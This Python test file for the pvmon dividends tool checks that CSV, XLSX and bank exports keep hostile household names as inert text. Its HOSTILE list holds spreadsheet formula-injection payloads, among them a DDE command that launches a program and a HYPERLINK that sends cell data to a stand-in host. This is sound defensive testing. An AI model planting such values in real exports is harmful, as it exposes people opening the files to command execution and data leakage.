"""Hostile and awkward names through the doors: a fleet file → a run → every export a
person opens (the lines' CSV and XLSX, the bank files, the 公示 XLSX), each file checked as
a spreadsheet would read it. Only the ``pvmon`` command line is used (as a subprocess).
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from pvmon.privacy import id_number_check_char
from tests.dividends.test_doors import County

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    'O"Brien, "Jr."; 王',
    "长" * 50,
    "Zhang 张 Ζήνων 𠮷😀",
    "#N/A",
    "'=已有引号",
    "٩(◕‿◕)۶ مرحبا",
]
_FORMULA = re.compile(r"^[=+\-@\t\r]")
_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
_DIGIT_HEADINGS = {"身份证号", "银行账号", "收款账号", "证件号码"}


def _fleet(names: list[str]) -> dict[str, object]:
    households = []
    for n, name in enumerate(names, start=1):
        first17 = f"21138219800101{n:03d}"
        households.append({
            "file_no": f"HC{n:05d}", "name": name, "village": "HC-V1",
            "id_number": first17 + id_number_check_char(first17), "bank_name": "@农村信用社",
            "bank_account": f"62170000{n:011d}", "served_by_station": "VS1",
        })  # fmt: skip
    owner = households[-1]
    owner.pop("served_by_station")
    owner["village"] = "HC-V2"
    station = {"capacity_kwp": "4.32", "latitude": 41.2, "longitude": 119.4,
               "commissioned_on": "2016-06-01", "grid_connected_on": "2016-06-20"}  # fmt: skip
    return {
        "counties": [{"code": "HC", "name": "+测试县", "province": "辽宁省", "townships": [
            {"code": "HC-T1", "name": "-城关镇", "villages": [
                {"code": "HC-V1", "name": "=1+1村"}, {"code": "HC-V2", "name": "@二村"}]}]}],
        "households": households,
        "stations": [
            {**station, "code": "VS1", "name": "=一村村级电站", "kind": "village",
             "capacity_kwp": "187.2", "village": "HC-V1", "tariff_ref": "TV"},
            {**station, "code": "HS1", "name": f"{owner['name']}户用电站", "kind": "household",
             "village": "HC-V2", "tariff_ref": "TH", "owner_household": owner["file_no"]},
        ],
    }  # fmt: skip


_SETUP = """\
first_dividend_on: 2017-01-01
benchmark:
  - {province: 辽宁省, from: 2015-01-01, yuan_per_kwh: "0.40"}
tariffs:
  - {tariff_ref: TV, from: 2015-01-01, yuan_per_kwh: "1.00"}
  - {tariff_ref: TH, from: 2015-01-01, yuan_per_kwh: "1.00"}
enrol:
  household_scheme: household_own
  village_scheme: village_slot
"""


def _check_csv(path: Path, encoding: str) -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for cell in row:
            assert not _FORMULA.match(cell) or _NUMBER.match(cell), (path.name, cell)
    return rows


def _check_xlsx(path: Path) -> list[str]:
    """No formula anywhere; ID and account columns are text; returns every text."""
    texts = []
    wb = load_workbook(path)
    for ws in wb:
        digit_columns: set[int] = set()
        for row in ws.iter_rows():
            headings = {c.column for c in row if c.value in _DIGIT_HEADINGS}
            digit_columns |= headings
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                if cell.column in digit_columns and not headings and cell.value:
                    assert cell.data_type == "s", (path.name, cell.coordinate, cell.value)
    return texts


@pytest.fixture
def hostile(db_url: str, flavour: str, tmp_path: Path) -> County:
    if flavour != "postgres":
        pytest.skip("the doors drive the dividends engine; its tests run on both flavours")
    c = County(db_url, tmp_path)
    grid = [
        f"{code},2025-{m:02d},{kwh},0.40,{kwh * 0.4:.2f}"
        for code, kwh in (("VS1", 30_000), ("HS1", 600))
        for m in range(1, 13)
    ]
    c.set_up(yaml.safe_dump(_fleet(HOSTILE), allow_unicode=True), _SETUP, grid)
    return c


def test_a_name_with_a_control_character_is_refused_at_import(tmp_path: Path) -> None:
    from pvmon.registry.models import FleetFile

    fleet = _fleet(["王\n小明", "张三"])
    with pytest.raises(ValueError, match=r"households\.0\.name"):
        FleetFile.model_validate(fleet)


def test_hostile_names_leave_the_building_as_plain_text(hostile: County) -> None:
    c, root = hostile, hostile.root
    out = c.pvmon("dividends", "run", "--period", "2025", "--scope", "county:HC", who="clerk")
    run = c.run_id(out)
    c.pvmon("dividends", "approve", str(run), who="chief")
    files = {
        "lines.csv": ("--format", "csv"),
        "lines.xlsx": ("--format", "xlsx"),
        "bank.csv": ("--format", "bank"),
        "bank.xlsx": ("--format", "bank", "--layout", "cn-batch-xlsx"),
    }
    for name, args in files.items():
        c.pvmon("dividends", "export", str(run), *args, "--out", str(root / name), who="clerk")
    # GBK cannot carry some of the names: refused, naming each household and field
    gbk = ("--format", "bank", "--layout", "cn-batch-gbk", "--out", str(root / "gbk.csv"))
    refused = c.pvmon("dividends", "export", str(run), *gbk, who="clerk", ok=False)
    assert "household HC00008: name has characters that gbk cannot carry" in refused, refused
    assert "household HC00011: name" in refused and not (root / "gbk.csv").exists()
    for village in ("HC-V1", "HC-V2"):
        c.pvmon("dividends", "disclose", "--village", village, "--period", "2025", "--out",
                str(root), who="clerk")  # fmt: skip

    lines = _check_csv(root / "lines.csv", "utf-8-sig")
    assert lines[-1][0] == "合计" and lines[-1][-1] == "11100.00"  # 10 x (900 + 100) + 1,100
    bank = _check_csv(root / "bank.csv", "utf-8-sig")
    assert bank[-1][:2] == ["合计", "11"] and bank[-1][5] == "10100.00"
    shown = {row[1] for row in bank[1:-1]}
    for name in HOSTILE:  # nothing lost: a formula-like name keeps its text after the '
        assert name in shown or "'" + name in shown, name
    texts: list[str] = []
    for name in ("lines.xlsx", "bank.xlsx", "gongshi-HC-V1-2025.xlsx", "gongshi-HC-V2-2025.xlsx"):
        texts += _check_xlsx(root / name)
    for name in HOSTILE:
        assert name in texts, name
    wb = load_workbook(root / "bank.xlsx")
    summary = [row for row in wb.active.iter_rows(values_only=True)][:2]
    assert summary == [("总笔数", 11, *[None] * 6), ("总金额", 10100, *[None] * 6)]
